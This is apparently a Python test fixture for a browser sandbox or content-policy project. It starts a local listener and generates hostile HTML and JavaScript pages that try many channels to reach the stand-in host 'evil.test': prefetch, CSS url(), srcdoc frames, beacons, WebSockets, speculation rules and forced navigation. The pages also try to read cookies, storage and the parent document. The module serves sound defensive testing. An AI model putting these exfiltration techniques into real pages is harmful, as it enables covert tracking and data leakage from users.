"""A page that tries everything to reach a server of its own, to store something, and to read what is not its own."""

import contextlib
import json
import socket
import threading
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path

ADDRESS = "127.0.0.66"
"""Where every name under .test leads to in the browser."""


LEAKS = (
    "plain hidden value rel prefetch prerender attribute space list lists node named text value-of-node clone inner "
    "adjacent fragment parsed xml unsafe document shadow template pieces written own old blank indexed framed "
    "srcdoc attributes markup data blob address moved opened itself framed-link srcdoc-link attributes-link "
    "markup-link data-link blob-link address-link moved-link opened-link itself-link"
).split()
"""The ways out of `make_leaks_page`."""


@dataclass
class Listener:
    """A server that takes down who connects or sends a datagram to it. Each way out that may send no request has a port
    of its own, by which it is known."""

    port: int
    ports: dict[str, int] = field(default_factory=dict)
    heard: list[str] = field(default_factory=list)

    def take(self) -> list[str]:
        """What was heard since, without repeats."""
        heard, self.heard = sorted(set(self.heard)), []
        return heard


@contextlib.contextmanager
def listen() -> Iterator[Listener]:
    with contextlib.ExitStack() as stack:
        sockets = {name: _open(stack) for name in ("", *LEAKS)}
        ports = {name: tcp.getsockname()[1] for name, (tcp, _) in sockets.items()}
        listener = Listener(ports.pop(""), ports)
        for name, (tcp, udp) in sockets.items():
            threading.Thread(target=_accept, args=(tcp, listener, name), daemon=True).start()
            threading.Thread(target=_receive, args=(udp, listener, name), daemon=True).start()
        yield listener


def _open(stack: contextlib.ExitStack) -> tuple[socket.socket, socket.socket]:
    tcp = stack.enter_context(socket.create_server((ADDRESS, 0), backlog=128))
    udp = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    udp.bind((ADDRESS, tcp.getsockname()[1]))
    return tcp, udp


def _accept(server: socket.socket, listener: Listener, name: str) -> None:
    with contextlib.suppress(OSError):
        while True:
            connection, _ = server.accept()
            threading.Thread(target=_take_down, args=(connection, listener, name), daemon=True).start()


def _take_down(connection: socket.socket, listener: Listener, name: str) -> None:
    """The path of a request; a connection without one counts, too."""
    with connection, contextlib.suppress(OSError):
        connection.settimeout(1)
        try:
            data = connection.recv(4096)
        except TimeoutError:
            data = b""
        words = data.decode("latin-1").split(" ")
        listener.heard.append(name or (words[1].partition("?")[0] if len(words) > 1 else "a connection"))
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")


def _receive(server: socket.socket, listener: Listener, name: str) -> None:
    with contextlib.suppress(OSError):
        while True:
            server.recvfrom(4096)
            listener.heard.append(name or "a datagram")


def make_markup_page(port: int) -> str:
    """Without scripts."""
    evil = f"http://evil.test:{port}"
    return f"""<!doctype html><title>hostile</title>
<meta http-equiv=refresh content="2; url={evil}/refresh">
<meta http-equiv=x-dns-prefetch-control content=on>
<link rel=preconnect href="{evil}"><link rel=dns-prefetch href="//prefetched.test">
<link rel=prefetch href="{evil}/prefetch"><link rel=preload as=image href="{evil}/preload">
<link rel=stylesheet href="{evil}/style.css"><link rel=icon href="{evil}/icon">
<link rel=manifest href="{evil}/manifest">
<style>@import "{evil}/import.css"; body {{ background: url({evil}/background) }}
@font-face {{ font-family: x; src: url({evil}/font) }} p {{ font-family: x }}
q {{ background: u\\72l({evil}/escaped) }}</style>
<p style="background: url({evil}/attribute)">text<q>quoted</q>
<img src="{evil}/image" srcset="{evil}/set 2x"><iframe src="{evil}/frame"></iframe>
<iframe srcdoc="<img src='{evil}/srcdoc'><meta http-equiv=refresh content='1;url={evil}/srcdoc-refresh'>"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed">
<video src="{evil}/video" poster="{evil}/poster"></video>
<svg><image href="{evil}/svg" /><foreignObject><img src="{evil}/foreign"></foreignObject></svg>
<noscript><img src="{evil}/noscript"></noscript><table background="{evil}/table"><tr><td>x</table>
<a id=link href="{evil}/link" ping="{evil}/ping" target=_top>a link</a>
<form id=form action="{evil}/form"><input name=a></form><form id=post action="{evil}/post" method=post></form>
"""


def make_script_page(port: int) -> str:
    """The same, and everything that a script can do. What it achieved, it writes to the console."""
    evil = f"http://evil.test:{port}"
    return (
        make_markup_page(port).replace(f'<meta http-equiv=refresh content="2; url={evil}/refresh">', "")
        + f"""<script>
const say = (name, result) => console.log("result " + name + ": " + result);
const attempt = (name, work) => {{
  const fail = (error) => say(name, "failed " + error.name);
  try {{ Promise.resolve(work()).then((value) => say(name, "done " + value), fail); }} catch (error) {{ fail(error); }}
}};
const add = (name, values) => document.head.append(Object.assign(document.createElement(name), values));
attempt("storage", () => localStorage.setItem("a", "b"));
attempt("cookie", () => {{ document.cookie = "a=b"; return document.cookie; }});
attempt("database", () => indexedDB.open("a"));
attempt("caches", () => caches.open("a"));
attempt("parent", () => parent.document.title);
attempt("own page", () => fetch("/").then((answer) => answer.text()).then((text) => text.length));
attempt("service worker", () => navigator.serviceWorker.register(location.pathname));
attempt("fetch", () => fetch("{evil}/fetch", {{ mode: "no-cors" }}));
attempt("request", () => {{ const r = new XMLHttpRequest(); r.open("GET", "{evil}/xhr"); r.send(); }});
attempt("socket", () => {{ new WebSocket("ws://evil.test:{port}/socket"); }});
attempt("events", () => {{ new EventSource("{evil}/events"); }});
attempt("beacon", () => navigator.sendBeacon("{evil}/beacon", "x"));
attempt("worker", () => {{ new Worker("{evil}/worker"); }});
attempt("window", () => window.open("{evil}/window"));
attempt("image", () => {{ new Image().src = "{evil}/new-image"; }});
attempt("script", () => add("script", {{ src: "{evil}/script" }}));
attempt("style", () => add("link", {{ rel: "stylesheet", href: "{evil}/new-style" }}));
attempt("prefetch", () => add("link", {{ rel: "prefetch", href: "{evil}/new-prefetch" }}));
attempt("base", () => add("base", {{ href: "{evil}/" }}));
attempt("rules", () => add("script", {{ type: "speculationrules",
  textContent: JSON.stringify({{ prefetch: [{{ source: "list", urls: ["{evil}/speculation"] }}] }}) }}));
setTimeout(() => attempt("form", () => document.getElementById("form").submit()), 1000);
setTimeout(() => attempt("post", () => document.getElementById("post").submit()), 1300);
setTimeout(() => attempt("click", () => document.getElementById("link").click()), 1600);
setTimeout(() => attempt("top", () => {{ top.location = "{evil}/top"; }}), 1900);
setTimeout(() => attempt("itself", () => {{ location = "{evil}/itself"; }}), 2200);
</script>
"""
    )


def make_leaks_page(ports: Mapping[str, int]) -> str:
    """What no policy of a browser stops: connections ahead of time, and WebRTC."""
    text = Path(__file__).with_name("leaks.html").read_text()
    text = text.replace("PORTS", json.dumps(ports)).replace("ADDRESS", ADDRESS)
    for name in ("plain", "hidden", "value", "framed", "framed-link"):
        text = text.replace(f"{name.upper()}-PORT", str(ports[name]))
    return text


def make_honest_page() -> str:
    """What scripts may do. What it achieved, it writes to the console."""
    return Path(__file__).with_name("honest.html").read_text()
